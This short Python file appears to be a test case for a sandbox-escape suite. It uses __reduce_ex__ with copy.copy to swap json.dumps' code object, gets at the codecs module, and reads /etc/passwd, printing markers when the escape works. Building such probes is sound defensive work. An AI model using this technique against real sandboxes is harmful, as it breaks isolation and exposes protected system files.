# tries: copy sets the attributes that a state names
# class: reduce
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


import copy
import json


def g():
    return codecs


class C:
    def __reduce_ex__(self, protocol):
        return (lambda: json.dumps), (), (None, {"__code__": g.__code__})


copy.copy(C())
use(json.dumps().open)
